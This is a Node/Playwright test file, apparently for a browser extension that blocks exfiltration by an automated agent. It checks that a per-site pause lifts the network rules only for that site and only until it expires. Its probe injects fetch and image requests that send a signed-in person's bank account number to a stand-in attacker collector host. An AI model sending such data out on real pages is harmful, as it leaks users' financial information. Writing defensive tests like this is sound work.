// A person's pause on a site lifts the network rules for what its documents ask for, and for nothing else, until it is over.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { sceneOf } from '../attacks/attempt.mjs';
import { page, raw } from '../sites/html.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { HOSTS, urlOf } from '../sites/world.mjs';
import { extension, killWorker } from './with-guard.mjs';

/** What the worker keeps of a person's pause; the popup of a browser that is debugged can't set one. */
async function pause(hands, paused) {
  await workerOf(hands).evaluate(async (sites) => {
    const { personal } = await chrome.storage.local.get('personal');
    const none = { pack: 'balanced', rules: {}, chosen: false, agents: [] };
    await chrome.storage.local.set({ personal: { ...none, ...personal, paused: sites } });
  }, paused);
  await killWorker(hands);
  // Whatever wakes it: it begins with what is kept, and with rules built by that.
  await hands.goto(urlOf('forum', '/'));
  await until(async () => (await rulesOf(hands)).length > 0, 'the rules');
}

const workerOf = ({ context, id }) => context.serviceWorkers().findLast((w) => w.url().includes(id));
const rulesOf = (hands) => workerOf(hands).evaluate(() => chrome.declarativeNetRequest.getSessionRules());

const METER = 'http://meter.example/';
const CALL = "try { new RTCPeerConnection(); document.title = 'begun'; } catch { document.title = 'refused'; }";

test('a paused site reaches what it likes until its pause is over; another site does not', {
  timeout: 90_000,
}, async () => {
  const meter = () => page({ title: 'Meter', name: 'Meter', head: raw(`<script>${CALL}</script>`), body: '' });
  const sites = await startSites({ extra: { [new URL(METER).hostname]: meter } });
  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
  const scene = sceneOf(hands, sites);
  let count = 0;
  /** Asks the collector for something from a page of `site`; whether it arrived. */
  const reaches = async (site) => {
    // With what was read: a public page may reach a new place with nothing of it.
    const mark = `/c?probe=${++count}&d=${encodeURIComponent(scene.world.person.account)}`;
    await hands.goto(urlOf(site, '/'));
    await hands.wait(300);
    for (const how of ['fetch(URL, { mode: "no-cors" }).catch(() => 0)', 'void (new Image().src = URL)'])
      await hands.run(how.replace('URL', JSON.stringify(urlOf('attacker', mark))));
    await hands.wait(500);
    return sites.collector.records.filter(({ url }) => url.includes(mark)).length;
  };
  /** What a page says of a call that is begun by a press, or by its own script at once, and what its notice says. */
  const calls = async (site) => {
    await hands.goto(site);
    await hands.wait(300);
    if (site !== METER) {
      await hands.run(`document.body.insertAdjacentHTML('afterbegin', '<button>Join</button>');
        document.querySelector('button').addEventListener('click', () => { ${CALL} });`);
      await hands.click({ button: 'Join' });
    }
    await until(async () => /begun|refused/.test(await hands.run('document.title')), 'the call', 5_000);
    await hands.wait(500);
    return hands.run("[document.title, document.querySelector('[data-interlock-notice]')?.textContent ?? ''].join()");
  };
  try {
    await signInToBank(hands, scene.world);
    await readBalance(hands, scene.memory);
    assert.equal(await calls(METER), 'refused,', 'a page that only measures is spoken of');
    assert.equal(await reaches('forum'), 0, 'the wall stands');
    assert.match(await calls(urlOf('forum', '/')), /^refused,.*right to another computer.*has been asked/);
    await pause(hands, { [HOSTS.forum]: Date.now() + 3_600_000 });
    const began = Date.now();
    assert.equal(await reaches('forum'), 2, 'paused, and still held');
    assert.ok(Date.now() - began < 5_000, 'the page was kept waiting');
    assert.equal(await calls(urlOf('forum', '/')), 'begun,');
    assert.equal(await reaches('shop'), 0, 'the pause holds for another site');
    await pause(hands, { [HOSTS.forum]: Date.now() + 1_500 });
    await hands.wait(2_500);
    assert.equal(await reaches('forum'), 0, 'the pause outlasts its end');
  } finally {
    await hands.close();
    await sites.close();
  }
});
